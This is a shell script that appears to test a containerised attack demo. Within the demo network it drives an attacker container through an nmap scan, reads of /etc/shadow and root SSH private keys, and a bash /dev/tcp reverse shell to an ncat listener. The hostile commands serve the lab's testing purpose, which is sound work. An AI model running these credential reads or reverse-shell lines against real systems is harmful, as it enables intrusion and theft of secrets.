# SPDX-License-Identifier: GPL-2.0-or-later
# shellcheck shell=sh
# What the attacker does, for real and only within the demo's own network.

scan_ports=22,80,443,3306,5432,6379,8080,8081,9000,9200
listen_port=4444

# Ordinary traffic first: the site asks the api, the api asks the files.
visit() {
  say 'phase visit'
  set -- web
  address6='{{range .NetworkSettings.Networks}}{{.GlobalIPv6Address}}{{end}}'
  if bounded 60 "$engine" inspect --format "$address6" "${prefix}web" &&
    grep -q '^2001:db8:' "$work/out"; then
    set -- "$@" "$(cat "$work/out")"
  fi
  for host in "$@"; do
    if ! in_container attacker bash -c \
      "exec 3<>/dev/tcp/$host/80 && printf 'GET / HTTP/1.0\r\n\r\n' >&3 && cat <&3"; then
      reason="the web server did not answer: $(last_words)"
      return 1
    fi
  done
}

# One connection per address and port; what nobody has is given up after half a second.
scan() {
  say 'phase scan'
  if ! in_container attacker nmap -n -Pn -sT --unprivileged -p "$scan_ports" -T4 --max-retries 1 \
    --max-rtt-timeout 500ms --host-timeout 60s --min-hostgroup 16 -oG - "$subnet"; then
    reason="nmap did not run: $(last_words)"
    return 1
  fi
  answered=$(grep -c '/open/' "$work/out")
  progress "$answered addresses answered"
  if [ "$answered" -lt 5 ]; then
    reason="only $answered addresses answered the scan, 5 should"
    return 1
  fi
}

# One is read, one is refused (an ordinary user asks), a key is read, another one does not exist.
read_files() {
  say 'phase files'
  in_container attacker cat /etc/shadow || { reason="/etc/shadow: $(last_words)"; return 1; }
  bounded 120 "$engine" exec --user 33:33 "${prefix}attacker" cat /etc/shadow
  in_container attacker cat /root/.ssh/id_ed25519 || { reason="ssh key: $(last_words)"; return 1; }
  in_container attacker cat /root/.ssh/id_rsa
  return 0
}

# The listener sends two harmless commands; at their end both sides close.
reverse_shell() {
  say 'phase reverse-shell'
  printf 'id\nexit\n' >"$work/commands"
  timeout -k 5 120 "$engine" exec -i "${prefix}web" ncat -v -l -p "$listen_port" \
    <"$work/commands" >"$work/shell" 2>"$work/listener" 9>&- &
  listener=$!
  if ! until_true 600 grep -qs Listening "$work/listener"; then
    reason="the listener did not start: $(tail -n 1 "$work/listener")"
    return 1
  fi
  # bash -c with one command becomes that command: the new shell starts with the socket as input.
  in_container attacker bash -c "bash -i >& /dev/tcp/web/$listen_port 0>&1"
  child=$listener
  wait "$listener"
  child=
  listener=
  if ! grep -q 'uid=0' "$work/shell"; then
    reason='the reverse shell gave no answer'
    return 1
  fi
}
